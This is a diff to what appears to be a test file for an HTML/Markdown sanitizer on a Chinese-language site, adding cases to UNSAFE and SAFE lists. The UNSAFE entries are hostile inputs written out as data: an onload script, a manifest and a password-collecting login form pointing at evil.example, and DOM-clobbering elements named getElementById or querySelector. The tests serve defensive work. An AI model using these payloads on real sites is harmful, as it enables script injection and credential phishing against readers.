@@ -39,6 +39,21 @@ UNSAFE = [
     ('<noscript><p title="</noscript><img src=x onerror=alert(1)>"></p></noscript>', ["noscript"]),
     ('<meta http-equiv="refresh" content="0; url=https://evil.example/">', ["<meta>"]),
     ('<base href="https://evil.example/">', ["<base>"]),
+    # A <body> or <html> inside the page lends its attributes to the page's own element.
+    ("<body onload=alert(1)>", ["<body>"]),
+    ('正文 <html manifest="https://evil.example/m"> 正文', ["<html>"]),
+    # DOM clobbering: document.getElementById would be this form (elder.js stops).
+    ('<form name="getElementById"></form>', ["name="]),
+    ('<img name="querySelector" src="a.jpg" alt="图">', ["name="]),
+    ('<a name="top">锚点</a>', ["name=", "## 小标题"]),
+    ('<span id="elder-toggle">假按钮</span>', ["elder-toggle", "id"]),
+    ("<div id=main>正文</div>", ["main"]),
+    ("## 联系我们 {: #site-search }", ["site-search"]),
+    ('<section id="year-2020">年</section>', ["year-2020"]),
+    # A form can only imitate the site to phish readers (the CSP keeps its action at home).
+    ('<form action="https://evil.example/"><input type="password"><button>登录</button></form>',
+     ["<form>", "https://"]),
+    ('<input type="text" placeholder="请输入身份证号">', ["<input>"]),
 ]  # fmt: skip
 
 SAFE = [
@@ -52,6 +67,10 @@ SAFE = [
     "    <script>缩进的代码块也只是文字</script>",
     "关于 javascript: 和 data: 的科普文章，onerror= 这个词也可以写。",
     "<!-- 编辑备注：<script> 不会出现在页面上 -->",
+    "<!-- <body onload=alert(1)> 只是备注 -->",
+    '<a href="https://example.com" title="<body> 和 <form> 只是文字">链接</a>',
+    '<span id="zhu-yao-ren-wu">人物</span> 和 {: #main-points } 以外的 id 可以用',
+    "## Main\n\n## 搜索 Search",
 ]
 
 
